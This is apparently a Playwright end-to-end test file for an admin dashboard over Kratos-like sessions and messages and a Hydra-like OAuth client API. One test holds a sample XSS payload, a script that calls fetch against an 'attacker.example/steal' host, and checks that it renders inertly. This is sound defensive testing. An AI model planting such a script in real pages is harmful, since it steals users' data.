// Sessions, Messages and OAuth clients as an administrator uses them, each outcome checked in the
// Kratos-like store or the Hydra-like admin API afterwards.
import { afterAll, beforeAll, expect, test } from 'bun:test'
import type { BrowserContext, Page } from 'playwright-core'
import { signedInPage, startHarness, tabTo, type Harness } from './harness.ts'

let harness: Harness
let context: BrowserContext
let page: Page
let problems: string[]

beforeAll(async () => {
  harness = await startHarness()
  ;({ context, page, problems } = await signedInPage(harness, 'admin', '/dashboard/sessions'))
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: harness.sandbox.url })
}, 60_000)
afterAll(async () => {
  await context?.close()
  await harness?.stop()
})

const url = (path: string) => `${harness.sandbox.url}${path}`
const identityOf = (email: string) => [...harness.sandbox.kratos.identities.values()].find((identity) => identity.traits.email === email)!
const sessionsOf = (email: string) => harness.sandbox.kratos.sessions.filter((session) => session.identityId === identityOf(email).id)
/** Kratos lists sessions newest first (`created_at DESC`), equal times by id. */
const listOrder = (a: { id: string; created_at: string }, b: { id: string; created_at: string }) =>
  Date.parse(b.created_at) - Date.parse(a.created_at) || (a.id < b.id ? -1 : a.id > b.id ? 1 : 0)

test('Sessions: newest first; revoke one (the store ends it), extend one (its expiry moves, its device stays), page to the next page', async () => {
  const { kratos } = harness.sandbox
  await page.goto(url('/dashboard/sessions'))
  const table = page.getByRole('table', { name: 'Active sessions' })
  await table.waitFor()
  // The first page was read while every session was active: the 25 newest, in Kratos's order.
  const firstPage = [...kratos.sessions].sort(listOrder).slice(0, 25)
  const emailOf = (session: { identityId: string }) => kratos.identities.get(session.identityId)!.traits.email as string
  const listed = await table.locator('tbody tr td:first-child a').allTextContents()
  expect(listed).toEqual(firstPage.map(emailOf))
  // Two identities from the first page: one session to revoke, one to extend.
  const [victimEmail, extendedEmail] = listed.slice(0, 2) as [string, string]
  const [victim] = sessionsOf(victimEmail)
  expect(victim!.active).toBe(true)
  await page.getByRole('button', { name: `Revoke session of ${victimEmail}` }).click()
  const dialog = page.getByRole('dialog', { name: 'Revoke session?' })
  await dialog.getByRole('button', { name: 'Revoke' }).click()
  await page.getByRole('status').getByText(`Session of ${victimEmail} revoked.`).waitFor()
  expect(victim!.active).toBe(false)
  expect(await page.getByRole('button', { name: `Revoke session of ${victimEmail}` }).count()).toBe(0)

  const [extended] = sessionsOf(extendedEmail)
  const before = Date.parse(extended!.expires_at)
  await page.getByRole('button', { name: `Extend session of ${extendedEmail}` }).click()
  await page.getByRole('status').getByText(`Session of ${extendedEmail} extended.`).waitFor()
  expect(Date.parse(extended!.expires_at)).toBeGreaterThan(before)
  const row = page.getByRole('row').filter({ has: page.getByRole('link', { name: extendedEmail }) })
  expect(await row.locator('time').nth(1).getAttribute('datetime')).toBe(new Date(extended!.expires_at).toISOString())
  // Kratos answers the extended session without its devices; the row still shows the one listed.
  expect(await row.textContent()).toContain(extended!.devices[0]!.ip_address)

  // With faster_session_extend Kratos answers 204: the list is read again (without the revoked
  // session) and shows the new expiry.
  const [third] = sessionsOf(listed[2]!)
  kratos.fasterSessionExtend = true
  try {
    const thirdBefore = Date.parse(third!.expires_at)
    await page.getByRole('button', { name: `Extend session of ${listed[2]}` }).click()
    await page.getByRole('status').getByText(`Session of ${listed[2]} extended.`).waitFor()
    expect(Date.parse(third!.expires_at)).toBeGreaterThan(thirdBefore)
    const thirdRow = page.getByRole('row').filter({ has: page.getByRole('link', { name: listed[2]! }) })
    await page.waitForFunction(
      ([name, expires]) => [...document.querySelectorAll('main tbody tr')].some((tr) => tr.textContent?.includes(name!) && tr.querySelectorAll('time')[1]?.getAttribute('datetime') === expires),
      [listed[2], new Date(third!.expires_at).toISOString()],
    )
    expect(await thirdRow.textContent()).toContain(third!.devices[0]!.ip_address)
  } finally {
    kratos.fasterSessionExtend = false
  }

  // The second page holds the active sessions after the first page's 25, in Kratos's order.
  await page.getByRole('button', { name: 'Next page' }).click()
  await page.getByText('Page 2').waitFor()
  await page.waitForFunction(() => !document.querySelector('main [aria-busy="true"]'))
  const rest = kratos.sessions.filter((s) => s.active).sort(listOrder).slice(25)
  expect(rest.length).toBeGreaterThan(0)
  expect(await table.locator('tbody tr td:first-child a').allTextContents()).toEqual(rest.map(emailOf))
  await page.getByRole('button', { name: 'Previous page' }).click()
  await page.getByText('Page 1').waitFor()
  expect(problems).toEqual([])
})

test('Messages: filter to the abandoned ones, open one, read its body as text and its failed dispatches', async () => {
  const outside: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(harness.sandbox.url)) outside.push(request.url())
  })
  await page.goto(url('/dashboard/messages'))
  await page.getByRole('table', { name: 'Messages' }).waitFor()
  await page.getByRole('combobox', { name: 'Status' }).selectOption('abandoned')
  await page.waitForURL(/status=abandoned/)
  await page.waitForFunction(() => !document.querySelector('main [aria-busy="true"]'))
  const statuses = await page.getByRole('table', { name: 'Messages' }).locator('tbody tr td:nth-child(3)').allTextContents()
  expect(statuses.length).toBe(harness.sandbox.kratos.messages.filter((m) => m.status === 'abandoned').length)
  expect(new Set(statuses)).toEqual(new Set(['abandoned']))
  expect(harness.sandbox.kratos.calls.at(-1)?.query.get('status')).toBe('abandoned')

  await page.getByRole('link', { name: 'Suspicious newsletter' }).click()
  await page.getByRole('heading', { level: 1, name: 'Suspicious newsletter' }).waitFor()
  const body = page.getByLabel('Message body')
  expect(await body.textContent()).toContain('<script>fetch("https://attacker.example/steal")</script>')
  // Shown as text: no element from the mail exists, no script ran, nothing was fetched from elsewhere.
  expect(await page.locator('main img, main script, main p:has-text("Hello")').count()).toBe(0)
  expect(await page.evaluate(() => document.querySelectorAll('img[onerror]').length)).toBe(0)
  await page.getByText('550 5.7.1 content rejected', { exact: false }).waitFor()
  expect(outside).toEqual([])

  await page.goto(url('/dashboard/messages'))
  await page.getByRole('searchbox', { name: 'Recipient' }).fill('user03@example.test')
  await page.getByRole('button', { name: 'Filter' }).click()
  await page.waitForURL(/recipient=user03/)
  await page.waitForFunction(() => !document.querySelector('main [aria-busy="true"]'))
  const recipients = await page.getByRole('table', { name: 'Messages' }).locator('tbody tr td:nth-child(1)').allTextContents()
  expect(new Set(recipients)).toEqual(new Set(['user03@example.test']))
  expect(problems).toEqual([])
})

test("Messages: newest first, paged with Kratos's sealed page tokens; Previous page goes back through them", async () => {
  const { kratos } = harness.sandbox
  // Older than every seeded message: 51 in all, three pages of 25.
  for (let i = 1; i <= 20; i++) kratos.addMessage({ recipient: `paging${String(i).padStart(2, '0')}@example.test`, subject: `Paging ${i}`, body: 'Hello', status: 'sent' })
  const newestFirst = [...kratos.messages]
    .sort((a, b) => Date.parse(b.created_at) - Date.parse(a.created_at) || (a.id < b.id ? -1 : a.id > b.id ? 1 : 0))
    .map((message) => message.recipient)
  const table = page.getByRole('table', { name: 'Messages' })
  const recipients = async (pageNumber: number) => {
    await page.getByText(`Page ${pageNumber}`, { exact: true }).waitFor()
    await page.waitForFunction(() => !document.querySelector('main [aria-busy="true"]'))
    return table.locator('tbody tr td:nth-child(1)').allTextContents()
  }
  await page.goto(url('/dashboard/messages'))
  expect(await recipients(1)).toEqual(newestFirst.slice(0, 25))
  await page.getByRole('button', { name: 'Next page' }).click()
  expect(await recipients(2)).toEqual(newestFirst.slice(25, 50))
  const secondPageToken = new URL(page.url()).searchParams.get('page_token')!
  // The token is Kratos's own, passed on as it came (sealed, URL-safe base64 with padding).
  expect(kratos.calls.filter((call) => call.path === '/admin/courier/messages').at(-1)!.query.get('page_token')).toBe(secondPageToken)
  await page.getByRole('button', { name: 'Next page' }).click()
  expect(await recipients(3)).toEqual(newestFirst.slice(50))
  expect(await page.getByRole('button', { name: 'Next page' }).isDisabled()).toBe(true)
  await page.getByRole('button', { name: 'Previous page' }).click()
  expect(await recipients(2)).toEqual(newestFirst.slice(25, 50))
  expect(new URL(page.url()).searchParams.get('page_token')).toBe(secondPageToken)
  await page.getByRole('button', { name: 'Previous page' }).click()
  expect(await recipients(1)).toEqual(newestFirst.slice(0, 25))
  expect(problems).toEqual([])
})

test('OAuth clients: create a confidential client, copy its secret once, reload and see no secret; edit its redirect URIs; create a public client; revoke tokens; delete', async () => {
  const { hydra } = harness.sandbox
  await page.goto(url('/dashboard/oauth-clients'))
  await page.getByRole('button', { name: 'Create client' }).click()
  const dialog = page.getByRole('dialog', { name: 'Create client' })
  await dialog.getByRole('textbox', { name: 'Client name' }).fill('Reporting dashboard')
  await dialog.getByRole('textbox', { name: 'Redirect URIs', exact: true }).fill('reports.example.com/callback')
  await dialog.getByRole('button', { name: 'Create client' }).click()
  await dialog.getByText(/is not an absolute URL/).waitFor()
  const before = hydra.calls.filter((call) => call.method === 'POST').length
  expect(before).toBe(0)
  await dialog.getByRole('textbox', { name: 'Redirect URIs', exact: true }).fill('https://reports.example.com/callback')
  await dialog.getByRole('button', { name: 'Create client' }).click()
  await page.getByRole('heading', { level: 1, name: 'Reporting dashboard' }).waitFor()
  const created = [...hydra.clients.values()].find((client) => client.client_name === 'Reporting dashboard')!
  expect(created.token_endpoint_auth_method).toBe('client_secret_basic')
  const secret = page.getByRole('status', { name: 'Client secret' }).or(page.locator('output[aria-label="Client secret"]'))
  expect(await secret.textContent()).toBe(created.secret)
  await page.getByRole('button', { name: 'Copy' }).click()
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(created.secret!)
  await page.reload()
  await page.getByRole('heading', { level: 1, name: 'Reporting dashboard' }).waitFor()
  await page.waitForFunction(() => !document.querySelector('main [aria-busy="true"]'))
  expect(await page.content()).not.toContain(created.secret!)

  await page.getByRole('button', { name: 'Edit client' }).click()
  const uris = page.getByRole('textbox', { name: 'Redirect URIs', exact: true })
  await uris.fill('https://reports.example.com/callback\nhttps://reports.example.com/callback2')
  await page.getByRole('button', { name: 'Save' }).click()
  await page.getByRole('status').getByText('Client Reporting dashboard saved.').waitFor()
  expect(hydra.clients.get(created.client_id)!.redirect_uris).toEqual(['https://reports.example.com/callback', 'https://reports.example.com/callback2'])
  // The secret survived the edit: Hydra keeps it when none is sent.
  expect(hydra.clients.get(created.client_id)!.secret).toBe(created.secret)

  await page.getByRole('button', { name: 'Revoke tokens' }).click()
  await page.getByRole('dialog', { name: 'Revoke tokens?' }).getByRole('button', { name: 'Revoke' }).click()
  await page.getByRole('status').getByText('Every token of Reporting dashboard was revoked.').waitFor()
  expect(hydra.revokedTokens).toEqual([created.client_id])

  await page.getByRole('button', { name: 'Delete client' }).click()
  await page.getByRole('dialog', { name: 'Delete client?' }).getByRole('button', { name: 'Delete' }).click()
  await page.getByRole('heading', { level: 1, name: 'OAuth clients' }).waitFor()
  expect(hydra.clients.has(created.client_id)).toBe(false)

  await page.getByRole('button', { name: 'Create client' }).click()
  const second = page.getByRole('dialog', { name: 'Create client' })
  await second.getByRole('textbox', { name: 'Client name' }).fill('Kiosk app')
  await second.getByRole('combobox', { name: 'Token endpoint authentication' }).selectOption('none')
  await second.getByRole('textbox', { name: 'Redirect URIs', exact: true }).fill('com.example.kiosk:/callback')
  await second.getByRole('button', { name: 'Create client' }).click()
  await page.getByRole('heading', { level: 1, name: 'Kiosk app' }).waitFor()
  const kiosk = [...hydra.clients.values()].find((client) => client.client_name === 'Kiosk app')!
  expect(kiosk.token_endpoint_auth_method).toBe('none')
  expect(kiosk.secret).toBeNull()
  expect(await page.locator('output[aria-label="Client secret"]').count()).toBe(0)
  expect(problems).toEqual([])
})

test('OAuth clients: search by name, and Hydra down shows our message with Retry', async () => {
  const { hydra } = harness.sandbox
  await page.goto(url('/dashboard/oauth-clients'))
  await page.getByRole('searchbox', { name: 'Search clients by name' }).fill('Billing service')
  await page.getByRole('button', { name: 'Search' }).click()
  await page.waitForURL(/name=Billing/)
  await page.waitForFunction(() => !document.querySelector('main [aria-busy="true"]'))
  expect(await page.getByRole('table', { name: 'OAuth clients' }).locator('tbody tr').count()).toBe(1)
  expect(hydra.calls.at(-1)?.query.get('client_name')).toBe('Billing service')

  hydra.failWith = 500
  await page.reload()
  const alert = page.getByRole('alert')
  await alert.waitFor()
  expect(await alert.textContent()).not.toContain('server_error')
  hydra.failWith = null
  await alert.getByRole('button', { name: 'Retry' }).click()
  await page.getByRole('table', { name: 'OAuth clients' }).waitFor()
  // The failed load logged its status in the console; nothing else did.
  expect(problems.filter((problem) => !problem.includes('status of 500'))).toEqual([])
  problems.length = 0
})

test('keyboard only: Sessions → Revoke dialog → Escape; OAuth clients → Create client dialog → Escape back to its opener', async () => {
  await page.goto(url('/dashboard/sessions'))
  await page.getByRole('table', { name: 'Active sessions' }).waitFor()
  const first = (await page.getByRole('button', { name: /^Revoke session of / }).first().getAttribute('aria-label'))!
  await tabTo(page, first)
  await page.keyboard.press('Enter')
  await page.getByRole('dialog', { name: 'Revoke session?' }).waitFor()
  await page.keyboard.press('Escape')
  expect(await page.evaluate(() => document.activeElement?.getAttribute('aria-label'))).toBe(first)
  // Confirmed this time: its row goes, and focus goes to the page rather than nowhere.
  await page.keyboard.press('Enter')
  const dialog = page.getByRole('dialog', { name: 'Revoke session?' })
  await dialog.waitFor()
  expect(await page.evaluate(() => document.activeElement?.textContent?.trim())).toBe('Revoke')
  await page.keyboard.press('Enter')
  await page.getByRole('status').getByText(/^Session of .* revoked\.$/).waitFor()
  expect(await page.getByRole('button', { name: first }).count()).toBe(0)
  // The dialog's close event, which hands focus on, comes a task after the row has gone.
  await page.waitForFunction(() => document.activeElement?.tagName === 'H1', undefined, { timeout: 5000 })
  // Extend keeps focus on its button, which is disabled only while the request runs.
  const extend = (await page.getByRole('button', { name: /^Extend session of / }).first().getAttribute('aria-label'))!
  await tabTo(page, extend)
  await page.keyboard.press('Enter')
  await page.getByRole('status').getByText(/^Session of .* extended\.$/).waitFor()
  await page.waitForFunction((name) => document.activeElement?.getAttribute('aria-label') === name, extend, { timeout: 5000 })
  await page.goto(url('/dashboard/oauth-clients'))
  await page.getByRole('table', { name: 'OAuth clients' }).waitFor()
  await tabTo(page, 'Create client')
  await page.keyboard.press('Enter')
  await page.getByRole('dialog', { name: 'Create client' }).waitFor()
  await page.keyboard.press('Escape')
  expect(await page.evaluate(() => document.activeElement?.textContent?.trim())).toBe('Create client')
})
